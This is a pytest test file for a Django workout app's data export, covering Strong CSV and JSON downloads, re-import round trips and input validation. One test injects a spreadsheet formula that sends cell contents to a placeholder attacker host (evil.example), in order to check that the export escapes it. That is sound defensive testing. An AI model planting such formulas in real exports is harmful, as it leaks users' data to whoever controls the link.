"""/account/export/: Strong's CSV and our JSON, streamed; the round trips back through
the import lose nothing."""

import csv
import datetime as dt
import io
import json
from decimal import Decimal

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from demo import samples
from exchange.exporting import STRONG_HEADER
from programs.deletion import delete_account
from programs.generation import assignments_in_week, generate_week
from programs.models import Assignment, Exercise, Program, Session, SessionPrescription
from programs.weeks import IsoWeek
from tests.conftest import log_set_on, make_user
from tracking.models import SetLog

STRONG_URL = "/account/export/strong.csv"
JSON_URL = "/account/export/legplanner.json"
NOW = dt.datetime(2026, 12, 14, 9, 0, tzinfo=dt.UTC)
W48, W49 = IsoWeek(2026, 48), IsoWeek(2026, 49)


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(NOW, tick=False):
        yield


def body(response) -> str:
    return b"".join(response.streaming_content).decode()


def rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body(response))))


def _trained_weeks(athlete, weeks=(W48,)) -> list[Session]:
    for week in weeks:
        generate_week(assignments=assignments_in_week(week), week=week)
    sessions = [
        session
        for week in weeks
        for session in Session.objects.filter(
            athlete=athlete, date__range=(week.monday, week.sunday)
        ).order_by("date")
    ]
    for session in sessions:
        for copy in session.prescriptions.all():
            for number in (1, 2):
                if copy.per_leg:
                    log_set_on(
                        copy, set_number=number, load="12.5", rir=1, reps_left=10, reps_right=9
                    )
                else:
                    log_set_on(copy, set_number=number, reps=8, load="100", rir=2)
    return sessions


def test_anonymous_visitors_are_sent_to_login(client, db):
    for url in ("/account/export/", STRONG_URL, JSON_URL):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("login"))


def test_exports_answer_only_get(client, athlete):
    client.force_login(athlete)
    for url in ("/account/export/", STRONG_URL, JSON_URL):
        assert client.post(url).status_code == 405


def test_the_page_links_both_exports_and_the_account_page_links_it(client, athlete):
    client.force_login(athlete)
    html = client.get("/account/export/").content.decode()
    assert f'href="{STRONG_URL}"' in html and f'href="{JSON_URL}"' in html
    assert 'href="/account/export/"' in client.get("/account/").content.decode()


def test_the_strong_csv_has_strongs_columns_and_a_row_per_set(client, athlete, other_athlete):
    monday, thursday = _trained_weeks(athlete)
    client.force_login(athlete)

    response = client.get(STRONG_URL)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        response["Content-Disposition"]
        == 'attachment; filename="legplanner-athlete-2026-12-14.csv"; '
        "filename*=UTF-8''legplanner-athlete-2026-12-14.csv"
    )
    text = body(response)
    assert text.splitlines()[0] == ",".join(STRONG_HEADER)
    exported = list(csv.DictReader(io.StringIO(text)))
    squat = exported[0]
    assert squat == {
        # The session's date, at the time of day of its first set (frozen now, in Paris):
        # the sets were ticked three weeks after their session.
        "Date": "2026-11-23 10:00:00",
        "Workout Name": "Strength + Compounds",
        "Duration": "0m",
        "Exercise Name": "Back squat",
        "Set Order": "1",
        "Weight": "100",
        "Reps": "8",
        "Distance": "0",
        "Seconds": "0",
        "Notes": "",
        "Workout Notes": "",
        "RPE": "8",
    }
    # Two athletes' sessions exist; only this one's sets are exported: 2 sets of each of
    # 3 + 3 exercises, the per-leg ones as a row per leg.
    lunges = [row for row in exported if row["Exercise Name"] == "Walking lunge"]
    assert [(r["Set Order"], r["Reps"], r["Notes"], r["RPE"]) for r in lunges] == [
        ("1", "10", "Left leg", "9"),
        ("1", "9", "Right leg", "9"),
        ("2", "10", "Left leg", "9"),
        ("2", "9", "Right leg", "9"),
    ]
    per_leg = SessionPrescription.objects.filter(session__athlete=athlete, per_leg=True).count()
    assert len(exported) == 2 * 6 + 2 * per_leg


def test_loads_are_in_the_athletes_unit(client, athlete):
    _trained_weeks(athlete)
    athlete.change_settings(unit="lb", time_zone="Europe/Paris")
    client.force_login(athlete)
    assert rows(client.get(STRONG_URL))[0]["Weight"] == "220.46"


def _queries(client, url: str) -> int:
    with CaptureQueriesContext(connection) as queries:
        body(client.get(url))
    return len(queries)


def test_exports_take_a_fixed_number_of_queries(client, athlete):
    client.force_login(athlete)
    _trained_weeks(athlete)
    one_week = [_queries(client, STRONG_URL), _queries(client, JSON_URL)]
    _trained_weeks(athlete, (W49,))
    assert Session.objects.filter(athlete=athlete).count() == 4
    two_weeks = [_queries(client, STRONG_URL), _queries(client, JSON_URL)]
    assert one_week == two_weeks
    # Beside the login's own reads: 1 query for the CSV, 4 for the JSON (its test-set
    # choices are one).
    assert two_weeks[1] - two_weeks[0] == 3


def test_a_strong_file_imports_and_exports_again_with_the_same_sets(client, athlete):
    client.force_login(athlete)
    original = samples.strong_csv(weeks=3)
    upload = client.post(
        "/account/import/", {"file": SimpleUploadedFile("s.csv", original.encode(), "text/csv")}
    )
    client.post(upload["Location"], {"unit": "kg"})
    athlete.change_settings(unit="kg", time_zone="Europe/Paris")

    exported = rows(client.get(STRONG_URL))

    names = {
        "Squat (Barbell)": "Back squat",
        "Romanian Deadlift (Barbell)": "Romanian deadlift",
        "Leg Extension (Machine)": "Leg extension",
        "Lying Leg Curl (Machine)": "Lying leg curl",
    }
    # Not the Duration: we keep when each set was done (a minute apart from the workout's
    # start), not how long the other app says the workout lasted.
    wanted = [
        (r["Date"], r["Workout Name"], names[r["Exercise Name"]], r["Set Order"],
         Decimal(r["Weight"]), r["Reps"], r["RPE"])
        for r in csv.DictReader(io.StringIO(original))
        if r["Set Order"].isdigit()
    ]  # fmt: skip
    got = [
        (r["Date"], r["Workout Name"], r["Exercise Name"], r["Set Order"],
         Decimal(r["Weight"]), r["Reps"], r["RPE"])
        for r in exported
    ]  # fmt: skip
    assert got == wanted


def test_sessions_ticked_after_their_day_import_back_on_their_day(client, athlete):
    """Sets ticked three weeks late (frozen now): the export dates each workout by its
    session, so a re-import by a newcomer lands every set on the same day."""
    sessions = _trained_weeks(athlete, (W48,))
    client.force_login(athlete)
    exported = body(client.get(STRONG_URL)).encode()
    newcomer = make_user("newcomer", time_zone="Europe/Paris")
    Assignment.objects.create(
        athlete=newcomer,
        program=Program.objects.get(is_default=True),
        weekday_one=0,
        weekday_two=3,
        start_date=W48.monday,
    )
    client.force_login(newcomer)
    upload = client.post(
        "/account/import/", {"file": SimpleUploadedFile("s.csv", exported, "text/csv")}
    )
    client.post(upload["Location"], {"unit": "kg"})

    def sets_per_day(user):
        return sorted(
            SetLog.objects.filter(prescription__session__athlete=user).values_list(
                "prescription__session__date", flat=True
            )
        )

    assert sets_per_day(newcomer) == sets_per_day(athlete)
    assert {session.date for session in sessions} == set(sets_per_day(newcomer))


def _strip(document: dict) -> dict:
    """What must survive the round trip: all but who and when of the export itself, and the
    coach (never imported: a coach is linked only by their own invitation)."""
    kept = {key: document[key] for key in ("format", "version", "sessions")}
    kept["assignments"] = [{**a, "coach": None} for a in document["assignments"]]
    kept["profile"] = {k: document["profile"][k] for k in ("unit", "time_zone")}
    return kept


def test_the_json_export_imports_back_with_nothing_lost(client, athlete):
    sessions = _trained_weeks(athlete, (W48, W49))
    copy = sessions[0].prescriptions.get(order=1)
    copy.swap_to(Exercise.objects.get(slug="leg-press"))
    log_set_on(copy, set_number=3, reps=12, load="180.25", rir=0).__class__.objects.filter(
        set_number=3, prescription=copy
    ).update(exercise=Exercise.objects.get(slug="leg-press"), note="felt strong ✓")
    athlete.change_settings(unit="lb", time_zone="Europe/Paris")
    client.force_login(athlete)
    first = json.loads(body(client.get(JSON_URL)))
    assert first["profile"]["username"] == "athlete"
    assert first["assignments"][0]["coach"] == "coach"
    assert first["sessions"][0]["prescriptions"][0]["alternatives"] == ["leg-press"]
    assert first["sessions"][0]["prescriptions"][0]["swapped_to"] == "leg-press"

    delete_account(athlete=athlete)
    again = make_user("again", unit="lb", time_zone="Europe/Paris")
    client.force_login(again)
    upload = client.post(
        "/account/import/",
        {"file": SimpleUploadedFile("me.json", json.dumps(first).encode(), "application/json")},
    )
    response = client.post(upload["Location"], {})
    assert response.status_code == 302

    second = json.loads(body(client.get(JSON_URL)))
    assert _strip(second) == _strip(first)
    # And once more: the same file again writes nothing.
    upload = client.post(
        "/account/import/",
        {"file": SimpleUploadedFile("me.json", json.dumps(first).encode(), "application/json")},
    )
    client.post(upload["Location"], {})
    assert _strip(json.loads(body(client.get(JSON_URL)))) == _strip(first)


def test_someone_elses_json_is_refused_while_its_sets_exist(client, athlete, other_athlete):
    _trained_weeks(athlete)
    client.force_login(athlete)
    document = body(client.get(JSON_URL)).encode()
    client.force_login(other_athlete)
    before = Session.objects.filter(athlete=other_athlete).count()
    upload = client.post(
        "/account/import/", {"file": SimpleUploadedFile("x.json", document, "application/json")}
    )
    response = client.post(upload["Location"], {})
    assert response.status_code == 400
    assert "belong to another account" in response.content.decode()
    assert Session.objects.filter(athlete=other_athlete).count() == before


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"sets_min": 5, "sets_max": 4}, "prescriptions[0]: the sets, reps or target RIR range"),
        ({"rir_max": 7}, "prescriptions[0].rir_max: 7 is out of range (0 to 3)"),
        # The model's bound, not a copy of it: 900 sets once drew 900 rows on a page.
        ({"sets_max": 900}, "prescriptions[0].sets_max: 900 is out of range (0 to 20)"),
        ({"order": 32768}, "prescriptions[0].order: 32768 is out of range (1 to 50)"),
        ({"rest_seconds": 10**30}, "a number of more than 18 digits"),
    ],
)
def test_a_json_file_with_values_we_do_not_keep_is_refused(client, athlete, change, message):
    _trained_weeks(athlete)
    client.force_login(athlete)
    document = json.loads(body(client.get(JSON_URL)))
    delete_account(athlete=athlete)
    document["sessions"][0]["prescriptions"][0].update(change)
    again = make_user("again")
    client.force_login(again)
    response = client.post(
        "/account/import/",
        {"file": SimpleUploadedFile("me.json", json.dumps(document).encode(), "application/json")},
    )
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not Session.objects.exists()


def test_a_json_assignment_on_consecutive_days_is_refused(client, athlete):
    client.force_login(athlete)
    document = json.loads(body(client.get(JSON_URL)))
    document["assignments"][0].update(weekday_one=1, weekday_two=2)
    response = client.post(
        "/account/import/",
        {"file": SimpleUploadedFile("me.json", json.dumps(document).encode(), "application/json")},
    )
    assert response.status_code == 400
    assert "file.assignments[0]: the weekdays or the dates" in response.content.decode()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_cells_a_spreadsheet_would_run_are_escaped(client, athlete, start):
    (monday, thursday) = _trained_weeks(athlete)
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    Session.objects.filter(pk=monday.pk).update(name=formula)
    SetLog.objects.filter(prescription__session=monday).update(note=formula)
    Exercise.objects.filter(slug="back-squat").update(name=formula[:80])
    client.force_login(athlete)

    exported = rows(client.get(STRONG_URL))

    assert {r["Workout Name"] for r in exported} == {"'" + formula, thursday.name}
    mondays = [r for r in exported if r["Workout Name"] == "'" + formula]
    assert {r["Notes"] for r in mondays} == {
        "'" + formula,
        f"Left leg: {formula}",
        f"Right leg: {formula}",
    }
    assert {r["Exercise Name"] for r in mondays} == {
        "'" + formula[:80],
        "Romanian deadlift",
        "Walking lunge",
    }
    # Numbers stay numbers: nothing but text cells is touched.
    assert all(
        Decimal(r["Weight"]) > 0 and int(r["RPE"]) == 8 for r in exported if r["Reps"] == "8"
    )


def test_an_escaped_export_imports_back_as_it_was_written(client, athlete):
    (monday, _) = _trained_weeks(athlete)
    SetLog.objects.filter(prescription__session=monday).update(note="=1+1")
    client.force_login(athlete)
    exported = body(client.get(STRONG_URL))
    assert ",'=1+1," in exported

    again = make_user("again")
    Assignment.objects.create(
        athlete=again, program=Program.objects.get(is_default=True), start_date=monday.date
    )
    client.force_login(again)
    upload = client.post(
        "/account/import/", {"file": SimpleUploadedFile("s.csv", exported.encode(), "text/csv")}
    )
    assert client.post(upload["Location"], {"unit": "kg"}).status_code == 302
    notes = set(
        SetLog.objects.filter(prescription__session__athlete=again).values_list("note", flat=True)
    )
    # Monday's sets, the lunges' two rows per set among them, and Thursday's without a note.
    assert notes == {"=1+1", ""}


@pytest.mark.parametrize(
    ("username", "fallback", "encoded"),
    [
        ("athlete", "legplanner-athlete-2026-12-14.csv", "legplanner-athlete-2026-12-14.csv"),
        ("Łukasz", "legplanner-_ukasz-2026-12-14.csv",
         "legplanner-%C5%81ukasz-2026-12-14.csv"),
        ("李雷", "legplanner-_-2026-12-14.csv", "legplanner-%E6%9D%8E%E9%9B%B7-2026-12-14.csv"),
        ("a+b@c.d", "legplanner-a+b@c.d-2026-12-14.csv", "legplanner-a%2Bb%40c.d-2026-12-14.csv"),
    ],
)  # fmt: skip
def test_the_file_name_survives_any_username(client, db, username, fallback, encoded):
    user = make_user(username)
    client.force_login(user)

    response = client.get(STRONG_URL)

    assert response.status_code == 200
    header = response["Content-Disposition"]
    assert header == f"attachment; filename=\"{fallback}\"; filename*=UTF-8''{encoded}"
    assert header.isascii()
